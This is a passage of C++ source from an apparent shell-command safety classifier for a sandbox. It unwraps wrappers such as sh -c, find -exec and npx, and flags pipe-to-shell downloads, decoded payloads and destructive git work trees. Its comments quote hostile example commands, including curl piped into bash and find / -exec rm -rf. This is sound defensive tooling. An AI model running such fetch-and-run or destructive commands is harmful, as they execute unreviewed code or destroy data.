          Verdict inner = inner_script({t.substr(t.find('!') + 1), w[i].dynamic, false, {}}, depth,
                                       "a command given at start-up");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
      }
    } else if (name == "sqlite3") {
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const std::string& t = w[i].text;
        if (t.starts_with(".shell ") || t.starts_with(".system ")) {
          Verdict inner = inner_script({t.substr(t.find(' ') + 1), w[i].dynamic, false, {}}, depth,
                                       "sqlite3 .shell");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
      }
    } else if (name == "rg") {
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        std::optional<Word> pre;
        if (w[i].text == "--pre" && i + 1 < w.size()) pre = w[i + 1];
        if (w[i].text.starts_with("--pre="))
          pre = Word{w[i].text.substr(6), w[i].dynamic, false, {}};
        if (!pre) continue;
        SimpleCommand sub;
        sub.words.push_back(*pre);
        Verdict inner = argv_verdict(sub, 0, depth + 1);
        raise(v, inner.decision, inner.rule, inner.reason);
      }
    } else if (name == "find") {
      for (std::size_t i = start + 1; i + 1 < w.size(); ++i) {
        const std::string& t = w[i].text;
        if (t == "-fprint" || t == "-fprint0" || t == "-fls" || t == "-fprintf") {
          apply({{Finding::Kind::writes, w[i + 1].text}}, "find", depth, v);
        }
      }
    }
  }

  void piped_program_verdict(const SimpleCommand& c, const std::string& name, Verdict& v) {
    for (const auto& up : c.upstream) {
      if (is_downloader(up)) {
        effect(v, Effect::hostile, "pipe-to-shell",
               up + " piped into " + name + ": runs code fetched from the network");
      } else if (is_decoder(up)) {
        effect(v, Effect::hostile, "decoded-payload-to-shell",
               up + " piped into " + name + ": runs an encoded payload nobody can review");
      }
    }
  }

  void shell_verdict(const SimpleCommand& c, std::size_t start, int depth, Verdict& v) {
    const std::string name = basename_of(c.words[start].text);
    // Options up to the script: `-c`, `-lc`, `-xec`, `-l -c`, `--norc -c`, `-o pipefail -c`.
    bool command_string = false, stdin_script = false;
    std::size_t i = start + 1;
    for (; i < c.words.size(); ++i) {
      const Word& w = c.words[i];
      if (w.dynamic) break;
      const std::string& t = w.text;
      if (t == "--" || t == "-") {
        ++i;
        break;
      }
      if (t.size() < 2 || (t[0] != '-' && t[0] != '+')) break;
      if (t == "--rcfile" || t == "--init-file") {  // a start-up file: it runs too
        if (i + 1 < c.words.size()) {
          if (const auto* f = state_->written(c.words[i + 1].text))
            script_file_verdict(*f, "", depth, v);
        }
        ++i;
        continue;
      }
      if (t[1] == '-') continue;  // --norc, --login, ...
      if ((t == "-o" || t == "+o" || t == "-O" || t == "+O") && i + 1 < c.words.size()) {
        ++i;
        continue;
      }
      if (t.find('c') != std::string::npos && t[0] == '-') command_string = true;
      if (t.find('s') != std::string::npos && t[0] == '-') stdin_script = true;
    }
    // -c wins over -s (bash); -s alone: the script is stdin, what follows is $1, $2, ...
    if (stdin_script && !command_string) i = c.words.size();
    // A script file that is stdin itself.
    if (!command_string && i < c.words.size() && !c.words[i].dynamic) {
      const std::string& f = c.words[i].text;
      if (f == "/dev/stdin" || f == "/dev/fd/0" || f == "/proc/self/fd/0" ||
          f == "/proc/thread-self/fd/0") {
        i = c.words.size();
      }
    }
    if (command_string) {
      if (i >= c.words.size()) return;  // `sh -c` alone fails
      Verdict inner = inner_script(c.words[i], depth, "a -c script");
      raise(v, inner.decision, inner.rule, inner.reason);
      // `curl URL | bash -c 'source /dev/stdin'`: the -c script runs the shell's stdin.
      const std::string& t = c.words[i].text;
      if (c.piped_in &&
          (t.find("/dev/stdin") != std::string::npos || t.find("/dev/fd/0") != std::string::npos ||
           t.find("$(cat)") != std::string::npos || t.find("`cat`") != std::string::npos)) {
        piped_program_verdict(c, name, v);
        effect(v, Effect::opaque, "script-from-pipe",
               name + " -c runs what an earlier stage of the pipeline prints: not analysable");
      }
      return;
    }
    if (i < c.words.size()) {
      // A script file: its text is not the classifier's to see; the sandbox holds it. One
      // made by a command (`bash <(curl URL)`) is that command's output.
      if (c.words[i].dynamic) {
        Verdict inner = inner_script(c.words[i], depth, "a script made by a command");
        raise(v, inner.decision, inner.rule, inner.reason);
      } else if (const auto* f = state_->written(c.words[i].text)) {
        script_file_verdict(*f, "", depth, v);
      }
      return;
    }
    for (const auto& r : c.redirects) {
      if (r.op == "<" && r.target.dynamic) {  // sh < <(curl URL)
        Verdict inner = inner_script(r.target, depth, "its stdin, made by a command");
        raise(v, inner.decision, inner.rule, inner.reason);
      } else if (r.op == "<") {  // sh < x.sh: a file this command line may have written
        if (const auto* f = state_->written(r.target.text)) script_file_verdict(*f, "", depth, v);
      }
    }
    // No script argument: the shell runs its stdin.
    piped_program_verdict(c, name, v);
    for (const auto& text : c.stdin_texts) {
      Verdict inner = inner_script(text, depth, "text fed to its stdin");
      raise(v, inner.decision, inner.rule, inner.reason);
    }
    if (c.piped_in && c.stdin_texts.empty()) {
      effect(v, Effect::opaque, "script-from-pipe",
             name + " runs what an earlier stage of the pipeline prints: not analysable");
    }
  }

  // If words[start] is a wrapper, where the command it runs may start (several places when an
  // option's meaning is not known: each is classified and the strictest counts), else
  // nothing. Wrappers that are decisions of their own (sudo) raise `v` on the way.
  // The directory a wrapper runs its command in: env -C DIR / --chdir, sudo -D, cmake -E
  // chdir DIR, systemd-run --working-directory.
  static std::optional<Word> wrapper_directory(const std::vector<Word>& w, std::size_t start,
                                               const std::string& name) {
    if (name == "cmake" && start + 3 < w.size() && w[start + 1].text == "-E" &&
        w[start + 2].text == "chdir")
      return w[start + 3];
    static const std::map<std::string, std::vector<std::string>> kOptions = {
        {"env", {"-C", "--chdir"}},  {"sudo", {"-D", "--chdir"}},
        {"run0", {"-D", "--chdir"}}, {"systemd-run", {"--working-directory"}},
        {"daemonize", {"-c"}},       {"start-stop-daemon", {"-d", "--chdir"}}};
    const auto it = kOptions.find(name);
    if (it == kOptions.end()) return std::nullopt;
    std::optional<Word> dir;
    const WrapperSpec* spec = wrapper_spec(name);
    for (std::size_t i = start + 1; i < w.size(); ++i) {
      const std::string& t = w[i].text;
      if (t == "--" || !t.starts_with("-") || w[i].dynamic) break;
      bool found = false;
      for (const auto& o : it->second) {
        if (t == o && i + 1 < w.size()) {
          dir = w[++i];
          found = true;
        } else if (o.starts_with("--") && t.starts_with(o + "=")) {
          dir = Word{t.substr(o.size() + 1), w[i].dynamic, w[i].ifs, {}};
          found = true;
        }
      }
      if (found) continue;
      if (t.size() > 1 && t[1] != '-') {
        // A cluster (-iC DIR, -iCDIR): the letter's value is the rest, or the next word.
        const char letter = it->second.front()[1];
        const auto at = t.find(letter);
        if (at != std::string::npos) {
          if (at + 1 < t.size()) {
            dir = Word{t.substr(at + 1), w[i].dynamic, w[i].ifs, {}};
          } else if (i + 1 < w.size()) {
            dir = w[++i];
          }
          continue;
        }
      }
      // Another option's value (sudo -u root -D /): skipped, so the scan goes on past it.
      if (spec != nullptr &&
          std::find(spec->values.begin(), spec->values.end(), t) != spec->values.end())
        ++i;
    }
    return dir;
  }

  std::optional<std::vector<std::size_t>> wrapped_command(const SimpleCommand& c, std::size_t start,
                                                          const std::string& name, Verdict& v,
                                                          int depth) {
    const auto& w = c.words;
    if (const auto l = classifier::launched_command(w, start, name); l.launcher) {
      // tmux, screen, dtach, entr, bwrap, ...: what they start, read their own way.
      if (l.opaque) effect(v, Effect::opaque, "dynamic-script", name + ": " + *l.opaque);
      for (const Word& s : l.scripts) {
        Verdict inner = inner_script(s, depth, "a command line a launcher runs");
        raise(v, inner.decision, inner.rule, inner.reason);
      }
      if (l.argv) {
        SimpleCommand sub = c;
        sub.words = *l.argv;
        std::optional<classifier::ScriptState> moved;
        classifier::ScriptState* outer = state_;
        if (auto dir = wrapper_directory(w, start, name)) {  // start-stop-daemon -d DIR
          moved.emplace(*state_);
          moved->change_directory({*dir}, true);
          state_ = &*moved;
        }
        Verdict inner = argv_verdict(sub, 0, depth + 1);
        state_ = outer;
        raise(v, inner.decision, inner.rule, inner.reason);
      }
      Args args;  // its own rule: background-detach, namespaces
      args.program = name;
      if (const classifier::Rule* r = classifier::match_rule(args, true))
        effect(v, r->effect, r->name, r->reason);
      if (l.argv_at) return std::vector<std::size_t>{*l.argv_at};
      return std::vector<std::size_t>{};
    }
    if (name == "find" || name == "fd" || name == "fdfind") {
      // -exec / -execdir / -ok CMD ... ; (find), -x / -X / --exec CMD (fd): per file. `{}` is
      // each file found: at least each start point itself (`find / -exec rm -rf {} +`).
      std::vector<Word> starts;
      if (name == "find") {
        for (std::size_t i = start + 1; i < w.size(); ++i) {
          const std::string& t = w[i].text;
          if (t == "-H" || t == "-L" || t == "-P" || t == "--" || t.starts_with("-O")) continue;
          if (t == "-D") {
            ++i;
            continue;
          }
          if (t.starts_with("-") || t == "(" || t == "!") break;
          starts.push_back(w[i]);
        }
      }
      if (starts.empty()) starts.push_back(literal_word("."));
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const std::string& t = w[i].text;
        if (t == "-exec" || t == "-execdir" || t == "-ok" || t == "-okdir" || t == "-x" ||
            t == "-X" || t == "--exec" || t == "--exec-batch") {
          for (const Word& found : starts) {
            SimpleCommand sub = c;
            sub.words.clear();
            for (std::size_t k = i + 1; k < w.size() && w[k].text != ";" && w[k].text != "+"; ++k) {
              sub.words.push_back(w[k].text == "{}" && !w[k].dynamic ? found : w[k]);
            }
            Verdict inner = argv_verdict(sub, 0, depth + 1);
            raise(v, inner.decision, inner.rule, inner.reason);
          }
        }
      }
      return std::nullopt;  // find's own rules still apply
    }
    if (name == "parallel") {
      // parallel ::: A B (each argument a command), parallel CMD ::: ARGS, and with no command
      // each line of stdin is a command.
      const auto sep = std::find_if(
          w.begin() + static_cast<std::ptrdiff_t>(start) + 1, w.end(),
          [](const Word& x) { return x.text.starts_with(":::") || x.text.starts_with("::::"); });
      std::size_t first = start + 1;
      while (first < w.size() && w[first].text.starts_with("-")) ++first;
      const bool no_command =
          first >= w.size() || w.begin() + static_cast<std::ptrdiff_t>(first) == sep;
      if (no_command && sep != w.end()) {
        for (auto it = sep + 1; it != w.end(); ++it) {
          Verdict inner = inner_script(*it, depth, "a command parallel runs");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
        return std::vector<std::size_t>{};
      }
      if (no_command) {
        piped_program_verdict(c, name, v);
        for (const auto& text : c.stdin_texts) {
          Verdict inner = inner_script(text, depth, "lines parallel runs");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
        if (c.stdin_texts.empty())
          effect(v, Effect::opaque, "script-from-pipe", "parallel runs each line of its stdin");
        return std::vector<std::size_t>{};
      }
    }
    if (name == "coproc") {  // coproc CMD: runs CMD in the background
      return std::vector<std::size_t>{start + 1};
    }
    if (name == "cmake" && start + 2 < w.size() && w[start + 1].text == "-E") {
      // cmake -E env [--unset=X] [NAME=VALUE]... CMD, -E chdir DIR CMD, -E time CMD: wrappers.
      const std::string& tool = w[start + 2].text;
      if (tool == "env" || tool == "time" || tool == "chdir") {
        std::size_t k = start + 3 + (tool == "chdir" ? 1 : 0);
        while (tool == "env" && k < w.size() &&
               (w[k].text.starts_with("--unset=") || w[k].text == "--modify" ||
                (w[k].text.find('=') != std::string::npos && !w[k].text.starts_with("-"))))
          ++k;
        return std::vector<std::size_t>{k};
      }
      // cmake -E rm -rf PATH, cmake -E remove_directory PATH: its own rm.
      if (tool == "rm" || tool == "remove" || tool == "remove_directory") {
        SimpleCommand as_rm = c;
        as_rm.words.assign(w.begin() + static_cast<std::ptrdiff_t>(start + 2), w.end());
        as_rm.words[0].text = "rm";
        if (tool == "remove_directory")
          as_rm.words.insert(as_rm.words.begin() + 1, literal_word("-r"));
        Verdict inner = argv_verdict(as_rm, 0, depth + 1);
        raise(v, inner.decision, inner.rule, inner.reason);
      }
      return std::nullopt;
    }
    const WrapperSpec* spec = wrapper_spec(name);
    if (spec == nullptr) {
      // `uv run CMD`, `bundle exec CMD`, `npm exec -- CMD`, `npx CMD`, ...
      const std::string sub = start + 1 < w.size() ? w[start + 1].text : "";
      const bool runner =
          (name == "npx" || name == "pnpx" || name == "bunx") ||
          ((name == "uv" || name == "poetry" || name == "pipenv" || name == "conda" ||
            name == "mamba" || name == "pixi" || name == "hatch" || name == "pdm") &&
           sub == "run") ||
          ((name == "bundle" || name == "npm" || name == "pnpm" || name == "yarn" ||
            name == "bun") &&
           (sub == "exec" || sub == "x" || sub == "dlx"));
      if (!runner) return std::nullopt;
      // npx -c 'CMD' / npm exec --call 'CMD': a shell command line.
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const std::string& t = w[i].text;
        if (t == "--") break;
        std::optional<Word> call;
        if ((t == "-c" || t == "--call") && i + 1 < w.size()) call = w[i + 1];
        if (t.starts_with("--call=")) call = Word{t.substr(7), w[i].dynamic, false, {}};
        if (call) {
          Verdict inner = inner_script(*call, depth, "a command line npx runs");
          raise(v, inner.decision, inner.rule, inner.reason);
          return std::vector<std::size_t>{};
        }
      }
      const std::size_t from =
          name == "npx" || name == "pnpx" || name == "bunx" ? start + 1 : start + 2;
      return starts_after_options(w, from, {}, {}, 0, true);
    }
    if (spec->escalates != nullptr) {
      // setuid helpers gain nothing under no_new_privs; run0 and pkexec ask a system service
      // (systemd, polkit) over its socket (effect(): contained while unix sockets are not).
      const bool service = name == "run0" || name == "pkexec";
      effect(v, Effect::contained, service ? "privilege-service" : spec->escalates,
             std::string(spec->why) + " (" + name + ")");
    }
    // Options that carry a script of their own.
    for (std::size_t i = start + 1; i < w.size(); ++i) {
      const std::string& t = w[i].text;
      if (t == "--") break;
      // flock FILE -c CMD: its -c may follow the positional.
      // flock FILE -c CMD and script FILE -c CMD: getopt takes options after the file too.
      if ((t.size() < 2 || t[0] != '-') && name != "flock" && name != "script") break;
      const bool split = name == "env" && t[1] != '-' && t.find('S') != std::string::npos;
      // script and flock's -c / --command CMD, also glued (-qc CMD, -cCMD, --command=CMD).
      std::optional<Word> command_opt;
      if (name == "flock" || name == "script") {
        if (t == "--command" && i + 1 < w.size()) {
          command_opt = w[i + 1];
        } else if (t.starts_with("--command=")) {
          command_opt = Word{t.substr(10), w[i].dynamic, w[i].ifs, {}};
        } else if (t.size() > 1 && t[0] == '-' && t[1] != '-') {
          const std::string_view valued = name == "script" ? "EoTIOBm" : "wE";
          for (std::size_t k = 1; k < t.size(); ++k) {
            if (valued.find(t[k]) != std::string_view::npos) break;
            if (t[k] != 'c') continue;
            if (k + 1 < t.size()) {
              command_opt = Word{t.substr(k + 1), w[i].dynamic, w[i].ifs, {}};
            } else if (i + 1 < w.size()) {
              command_opt = w[i + 1];
            }
            break;
          }
        }
      }
      if (split || command_opt || t == "--split-string" || t.starts_with("--split-string=")) {
        Word code;
        const auto s = t.find('S');
        if (command_opt) {
          code = *command_opt;
        } else if (split && s + 1 < t.size()) {
          code = {t.substr(s + 1), w[i].dynamic, w[i].ifs, {}};
        } else if (t.starts_with("--split-string=")) {
          code = {t.substr(15), w[i].dynamic, w[i].ifs, {}};
        } else if (i + 1 < w.size()) {
          code = w[i + 1];
        }
        Verdict inner = inner_script(code, depth, "a script given to an option");
        raise(v, inner.decision, inner.rule, inner.reason);
        if (name == "env") return std::vector<std::size_t>{};
      }
    }
    if (name == "command") {
      for (std::size_t i = start + 1; i < w.size() && w[i].text.starts_with("-"); ++i) {
        if (w[i].text.find_first_of("vV") != std::string::npos) return std::vector<std::size_t>{};
      }
    }
    if (name == "hyperfine" || name == "watch") {
      // Every positional (hyperfine) or the rest joined (watch) is a shell command line.
      std::vector<std::size_t> none;
      std::vector<std::size_t> at =
          starts_after_options(w, start + 1, spec->values, spec->flags, 0, false);
      std::string joined;
      bool dynamic = false;
      for (std::size_t k = start + 1; name == "hyperfine" && k + 1 < w.size(); ++k) {
        // --prepare, --setup, --cleanup, --conclude, --reference CMD: shell command lines too
        const std::string& t = w[k].text;
        for (std::string_view option :
             {"-p", "--prepare", "-s", "--setup", "-c", "--cleanup", "--conclude", "--reference"}) {
          if (t == option) {
            Verdict inner = inner_script(w[k + 1], depth, "a command hyperfine runs");
            raise(v, inner.decision, inner.rule, inner.reason);
          } else if (option.starts_with("--") && t.starts_with(std::string(option) + "=")) {
            Verdict inner = inner_script({t.substr(option.size() + 1), w[k].dynamic, false, {}},
                                         depth, "a command hyperfine runs");
            raise(v, inner.decision, inner.rule, inner.reason);
          }
        }
      }
      for (std::size_t k = at.empty() ? w.size() : at.front(); k < w.size(); ++k) {
        if (name == "hyperfine") {
          Verdict inner = inner_script(w[k], depth, "a benchmarked command");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
        joined += (joined.empty() ? "" : " ") + w[k].text;
        dynamic |= w[k].dynamic;
      }
      if (name == "watch" && !joined.empty()) {
        Verdict inner = inner_script({joined, dynamic, false, {}}, depth, "a watched command");
        raise(v, inner.decision, inner.rule, inner.reason);
      }
      return none;
    }
    return starts_after_options(w, start + 1, spec->values, spec->flags, spec->positionals,
                                spec->assignments);
  }

  // Where a command may start after a wrapper's options: known flags take one word, known
  // valued options two, `--opt=value` one; an unknown option could be either, so both are
  // followed (at most 8 places). Then `positionals` words of the wrapper's own (a duration,
  // a user, a file).
  static std::vector<std::size_t> starts_after_options(const std::vector<Word>& w, std::size_t i,
                                                       const std::vector<std::string_view>& values,
                                                       const std::vector<std::string_view>& flags,
                                                       int positionals, bool assignments) {
    std::vector<std::size_t> out;
    std::vector<std::size_t> todo = {i};
    while (!todo.empty() && out.size() < 8) {
      std::size_t k = todo.back();
      todo.pop_back();
      bool done = false;
      while (k < w.size() && !done) {
        const std::string& t = w[k].text;
        if (t == "--") {
          ++k;
          done = true;
        } else if (std::find(values.begin(), values.end(), t) != values.end()) {
          k += 2;
        } else if (std::find(flags.begin(), flags.end(), t) != flags.end()) {
          ++k;  // `env -` among them
        } else if (assignments && t.find('=') != std::string::npos && t[0] != '-') {
          ++k;
        } else if (t.size() < 2 || t[0] != '-' || w[k].dynamic) {
          done = true;
        } else if (t.find('=') != std::string::npos || (t[1] >= '0' && t[1] <= '9')) {
          ++k;
        } else {
          todo.push_back(k + 2);  // perhaps it takes a value
          ++k;
        }
      }
      k += static_cast<std::size_t>(positionals);
      if (k < w.size() && std::find(out.begin(), out.end(), k) == out.end()) out.push_back(k);
    }
    return out;
  }

  // The hosts a remote command names, when the filtered network reaches none of them (the
  // proxy refuses every one): "a, b"; empty when one may be reached or they are not all known.
  std::string reached(const SimpleCommand& c, std::size_t start, const Args& args) const {
    if (!ctx_.sandboxed || ctx_.network != NetworkMode::filtered || !ctx_.reaches) return "";
    // Settings that add URLs or route connections elsewhere (.curlrc under another home,
    // WGETRC, a proxy of the command's own): the named hosts are not the whole story.
    static constexpr std::string_view kRouting[] = {
        "HOME",           "CURL_HOME",         "XDG_CONFIG_HOME", "WGETRC",      "SYSTEM_WGETRC",
        "http_proxy",     "https_proxy",       "HTTP_PROXY",      "HTTPS_PROXY", "ALL_PROXY",
        "all_proxy",      "ftp_proxy",         "FTP_PROXY",       "NO_PROXY",    "no_proxy",
        "CURL_CA_BUNDLE", "HTTPIE_CONFIG_DIR", "SSLKEYLOGFILE"};
    const auto routing = [](std::string_view assignment) {
      const auto eq = assignment.find('=');
      if (eq == std::string_view::npos) return false;
      return std::find(std::begin(kRouting), std::end(kRouting), assignment.substr(0, eq)) !=
             std::end(kRouting);
    };
    for (const auto& a : c.assignments) {
      if (routing(a)) return "";
    }
    for (std::size_t i = 0; i < start && i < c.words.size(); ++i) {
      if (c.words[i].dynamic || routing(c.words[i].text)) return "";  // env NAME=value curl
    }
    for (std::string_view name : kRouting) {
      if (name == "HOME") continue;  // the script's own HOME is the context's unless set
      if (state_->values(std::string(name)) != nullptr) return "";
    }
    if (const auto* home = state_->values("HOME");
        home != nullptr && (home->size() != 1 || !(*home)[0] || *(*home)[0] != home_))
      return "";
    const auto endpoints = classifier::matchers::remote_endpoints(args);
    if (!endpoints) return "";
    std::string names, urls;
    for (const auto& e : *endpoints) {
      if (ctx_.reaches(e.host, e.port)) return "";
      const std::string name = e.host + ":" + std::to_string(e.port);
      names += (names.empty() ? "" : ", ") + name;
      if (e.url) urls += (urls.empty() ? "" : ", ") + name;
    }
    return urls.empty() ? names : urls;
  }

  // GIT_WORK_TREE (and GIT_DIR's tree) set for git, by the command, a wrapper or the script:
  // a work tree at the root or a home is what git cleans, resets or checks out there.
  void git_environment_verdict(const SimpleCommand& c, std::size_t start, Verdict& v) {
    std::vector<Word> trees;
    const auto take = [&trees](std::string_view assignment) {
      if (assignment.starts_with("GIT_WORK_TREE="))
        trees.push_back(literal_word(std::string(assignment.substr(14))));
    };
    for (const auto& a : c.assignments) take(a);
    for (std::size_t i = 0; i < start && i < c.words.size(); ++i) take(c.words[i].text);
    if (const auto* values = state_->values("GIT_WORK_TREE")) {
      for (const auto& value : *values) {
        if (value) trees.push_back(literal_word(*value));
      }
    }
    if (trees.empty()) return;
    SimpleCommand as_option = c;
    as_option.words.assign(c.words.begin() + static_cast<std::ptrdiff_t>(start), c.words.end());
    for (const Word& t : trees) {
      as_option.words.insert(as_option.words.begin() + 1, literal_word("--work-tree=" + t.text));
      Args args;
      args.program = "git";
      args.where = &state_->paths();
      for (std::size_t i = 1; i < as_option.words.size(); ++i) {
        args.words.push_back(as_option.words[i].text);
        args.dynamic.push_back(as_option.words[i].dynamic);
      }
      if (classifier::matchers::git_worktree_catastrophic(args))
        effect(v, Effect::hostile, "git-worktree-root-or-home",
               "git cleans, resets or checks out files in the root, a home or a system "
               "directory (GIT_WORK_TREE=" +
                   t.text + ")");
      as_option.words.erase(as_option.words.begin() + 1);
    }
  }

  // The command's own classification: the built-in rule for its program, the lists, then
  // the first user rule (which never lifts a built-in forbidden).
  Verdict own_verdict(const SimpleCommand& c, std::size_t start, const Args& args,
                      bool trusted) const {
    Verdict own;
    if (const classifier::Rule* r = classifier::match_rule(args, trusted)) {
      const std::string refused = r->effect == Effect::remote ? reached(c, start, args) : "";
      if (!refused.empty()) {
        effect(own, Effect::contained, r->name,
               std::string(r->reason) + " (the sandbox's network refuses " + refused +
                   ": it reaches none of them)");
      } else {
        effect(own, r->effect, r->name, r->reason);
      }
      if (r->effect == Effect::read_only && classifier::matchers::read_only_tool_writes(args))
        effect(own, Effect::contained, "writes-file",
               args.program + " told to write or change state");
    }
    const auto listed = [&](const std::vector<std::string>& list) {
      return std::find(list.begin(), list.end(), args.program) != list.end();
    };
    // The lists are about programs: shell builtins and keywords are not programs to list.
    static constexpr std::string_view kBuiltins[] = {
        "cd",      "exit",    "export",  "set",    "unset", "local", "declare", "readonly",
        "return",  "shift",   "source",  ".",      "eval",  "exec",  "wait",    "trap",
        "type",    "command", "builtin", "alias",  "let",   "read",  "test",    "[",
        "true",    "false",   ":",       "pushd",  "popd",  "shopt", "umask",   "hash",
        "typeset", "echo",    "printf",  "getopts"};
    const bool program = !module_ && std::find(std::begin(kBuiltins), std::end(kBuiltins),
                                               args.program) == std::end(kBuiltins);
    if (program && listed(custom_.deny_programs)) {
      effect(own, Effect::hostile, "denied-program",
             args.program + " is on the settings' denyPrograms list");
    }
    if (program && !custom_.allow_programs.empty() && !listed(custom_.allow_programs)) {
      effect(own, Effect::opaque, "not-allowed-program",
             args.program + " is not on the settings' allowPrograms list");
    }
    for (std::size_t i = 0; i < custom_.rules.size(); ++i) {
      const CommandRule& u = custom_.rules[i];
      if (!user_rule_matches(u, c, start)) continue;
      if (own.decision == Decision::forbidden && !own.rule.empty()) break;
      const Decision current = own.rule.empty() ? Decision::sandboxed : own.decision;
      if (custom_.stricter_only && rank(u.decision) <= rank(current)) break;
      own = {u.decision, "user:" + std::to_string(i),
             u.description.empty() ? "a rule of the settings' commands section" : u.description};
      break;
    }
    return own;
  }

  const CommandRules& custom_;
  const ClassifyContext& ctx_;
  std::string home_;
  ScriptState root_;
  ScriptState* state_;   // the script being walked (a nested one while it is)
  bool module_ = false;  // classifying `python -m MODULE ...` as MODULE
  std::vector<ClassifiedPart> parts_;
};

}  // namespace

Classification classify_argv(const std::vector<std::string>& argv, const CommandRules& rules,
                             const ClassifyContext& context) {
  return Classifier(rules, context).run_argv(argv);
}

Classification classify_script(const std::string& script, const CommandRules& rules,
                               const ClassifyContext& context) {
  return Classifier(rules, context).run_script(script);
}

std::vector<std::string> classifier_rule_names() {
  std::vector<std::string> names;
  for (const auto& r : classifier::rules()) names.emplace_back(r.name);
  for (auto n : kStructuralRules) names.emplace_back(n);
  for (auto n : kBoundRules) names.emplace_back(n);
  std::sort(names.begin(), names.end());
  names.erase(std::unique(names.begin(), names.end()), names.end());
  return names;
}

void validate(const CommandRules& rules, const std::string& where) {
  auto bad = [&](const std::string& field, const std::string& why) {
    throw Error(errc::config_invalid, where + "." + field + ": " + why);
  };
  for (std::size_t i = 0; i < rules.rules.size(); ++i) {
    const auto& m = rules.rules[i].match;
    const std::string field = "rules[" + std::to_string(i) + "].match";
    if (m.empty()) bad(field, "empty: a rule must name at least the program");
    if (m[0] == "*") bad(field, "the program may not be \"*\" (name it)");
    for (const auto& w : m) {
      if (w.empty()) bad(field, "an empty word");
    }
  }
  const std::vector<std::string> known = classifier_rule_names();
  for (const auto& [name, decision] : rules.overrides) {
    if (std::find(std::begin(kBoundRules), std::end(kBoundRules), name) != std::end(kBoundRules)) {
      bad("overrides." + name,
          "cannot be overridden: what the classifier cannot see through is never allow");
    }
    if (!std::binary_search(known.begin(), known.end(), name)) {
      bad("overrides." + name,
          "no built-in rule has this name (paddock check --json names "
          "the rule that decided a command)");
    }
  }
  for (const auto* list : {&rules.allow_programs, &rules.deny_programs}) {
    for (const auto& p : *list) {
      if (p.empty() || p.find('/') != std::string::npos) {
        bad(list == &rules.allow_programs ? "allowPrograms" : "denyPrograms",
            "\"" + p + "\": a program's basename, not a path");
      }
    }
  }
}

}  // namespace paddock
